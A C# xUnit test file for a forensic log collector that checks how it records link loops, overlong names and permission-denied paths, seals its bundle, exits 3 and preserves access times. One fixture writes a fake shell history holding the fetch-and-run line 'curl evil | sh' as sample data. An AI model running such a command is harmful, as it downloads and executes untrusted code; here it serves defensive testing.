using EvidenceKit.Testing;
using Xunit.Abstractions;

namespace EvidenceKit.Collector.Tests.Adversarial;

/// <summary>
/// One hostile or unreadable path is one record: the run goes on, seals, lists what it could not read and exits 3.
/// The unreadable cases run the real collector as the unprivileged user "nobody".
/// </summary>
public sealed class OneBadPathEndToEndTests(ITestOutputHelper output) : IDisposable
{
    private readonly TempDirectory _root = new("ek-e2e-bad-");
    private readonly TempDirectory _target = new("ek-e2e-bad-dst-");
    private readonly TempDirectory _profiles = new("ek-e2e-bad-profile-");

    public void Dispose()
    {
        _root.Dispose();
        _target.Dispose();
        _profiles.Dispose();
    }

    private static ProcessResult AsNobody(params string[] args)
    {
        return Run.Tool("setpriv", ["--reuid=nobody", "--regid=nogroup", "--clear-groups", "env", "HOME=/tmp", Run.ExecutablePath("evidencekit-collect"), .. args],
            timeout: TimeSpan.FromMinutes(3));
    }

    private static void RequireDropPrivileges()
    {
        Requires.Root("the collector is run as 'nobody' through setpriv");
        Requires.Program("setpriv", "util-linux");
    }

    private void LoopAndLongName()
    {
        Directory.CreateDirectory(_root.Combine("var/log/loop"));
        File.CreateSymbolicLink(_root.Combine("var/log/loop/a"), "b");
        File.CreateSymbolicLink(_root.Combine("var/log/loop/b"), "a");
    }

    private static readonly string LongName = "/var/log/" + new string('n', 300) + ".log";

    [Fact]
    public void A_link_loop_in_a_parent_and_a_name_too_long_are_records_and_the_run_seals_with_exit_3()
    {
        // Given a profile naming a path through a link loop, a name over NAME_MAX, and an ordinary log
        _root.Write("var/log/ok.log", "fine\n");
        LoopAndLongName();
        var profile = HostileTree.Profile(_profiles, "/var/log/loop/a/access.log", LongName, "/var/log/ok.log");

        // When the real collector runs
        var run = Run.Executable("evidencekit-collect", ["--profile", profile, "--root", _root.Path, "--target", _target.Path, "--case", "BAD"]);

        // Then both are failed records, the log is collected, the bundle is sealed, exit 3
        run.ExitCode.Should().Be(3, run.ToString());
        var manifest = HostileTree.Manifest(HostileTree.SealedBundle(_target.Path));
        manifest.Files.Select(f => f.SourcePath).Should().Equal("/var/log/ok.log");
        manifest.Skipped.Should().Contain(s => s.Path == "/var/log/loop/a/access.log" && s.Failed && s.Reason.Contains("link loop"));
        manifest.Skipped.Should().Contain(s => s.Path == LongName && s.Failed && s.Reason.Contains("name too long"));
    }

    [SkippableFact]
    [Trait("Category", "Root")]
    public void Run_as_a_normal_user_an_unreadable_parent_of_a_single_path_and_of_a_glob_are_records_and_the_run_seals_with_exit_3()
    {
        RequireDropPrivileges();
        // Given /root (0700) holding a fish history, /var/log/private (0700), and a log nobody owns
        _root.Write("root/.local/share/fish/fish_history", "- cmd: curl evil | sh\n");
        _root.Write("var/log/private/secret.log", "hidden\n");
        var ok = _root.Write("var/log/ok.log", "fine\n");
        LoopAndLongName();
        Run.Tool("chmod", ["-R", "a+rX", _root.Path]).ExitCode.Should().Be(0);
        Run.Tool("chmod", ["0700", _root.Combine("root"), _root.Combine("var/log/private")]).ExitCode.Should().Be(0);
        Run.Tool("chown", ["nobody", ok]).ExitCode.Should().Be(0);
        HostileTree.AgeAtime(ok);
        Run.Tool("chmod", ["0777", _target.Path]).ExitCode.Should().Be(0);
        Run.Tool("chmod", ["a+rx", _profiles.Path]).ExitCode.Should().Be(0);
        var profile = HostileTree.Profile(_profiles, "/root/.local/share/fish/fish_history", "/var/log/**", "/var/log/loop/a/x.log");
        Run.Tool("chmod", ["a+r", profile]).ExitCode.Should().Be(0);

        // When the real collector runs as nobody
        var run = AsNobody("--profile", profile, "--root", _root.Path, "--target", _target.Path, "--case", "NOBODY");

        // Then each unreadable path is a failed record, the readable log is collected without touching its atime
        run.ExitCode.Should().Be(3, run.ToString());
        var manifest = HostileTree.Manifest(HostileTree.SealedBundle(_target.Path));
        manifest.Files.Select(f => f.SourcePath).Should().Equal("/var/log/ok.log");
        manifest.Files[0].AtimePreserved.Should().BeTrue();
        manifest.Skipped.Should().Contain(s => s.Path == "/root/.local/share/fish/fish_history" && s.Failed && s.Reason == "permission denied");
        manifest.Skipped.Should().Contain(s => s.Path == "/var/log/private" && s.Failed && s.Reason == "permission denied");
        manifest.Skipped.Should().Contain(s => s.Path == "/var/log/loop/a/x.log" && s.Failed && s.Reason.Contains("link loop"));
        run.StdOut.Should().Contain("/root/.local/share/fish/fish_history");
        HostileTree.Atime(ok).Should().StartWith("2020-05-05 05:05:05.123456789");
    }

    [SkippableFact]
    [Trait("Category", "Root")]
    public void The_linux_base_profile_run_by_a_normal_user_on_this_machine_seals_and_exits_3_listing_what_it_could_not_read()
    {
        RequireDropPrivileges();
        Run.Tool("chmod", ["0777", _target.Path]).ExitCode.Should().Be(0);

        var run = AsNobody("--profile", "linux-base", "--target", _target.Path);

        run.ExitCode.Should().Be(3, run.ToString());
        var manifest = HostileTree.Manifest(HostileTree.SealedBundle(_target.Path));
        var denied = manifest.Skipped.Where(s => s.Failed && s.Reason == "permission denied").ToList();
        denied.Should().NotBeEmpty("a normal user cannot read everything linux-base names on Debian (e.g. /root, /var/log/btmp)");
        foreach (var record in denied.Take(5))
        {
            run.StdOut.Should().Contain(record.Path);
        }
        output.WriteLine($"{manifest.Files.Count} collected, {manifest.Skipped.Count} not collected");
    }
}
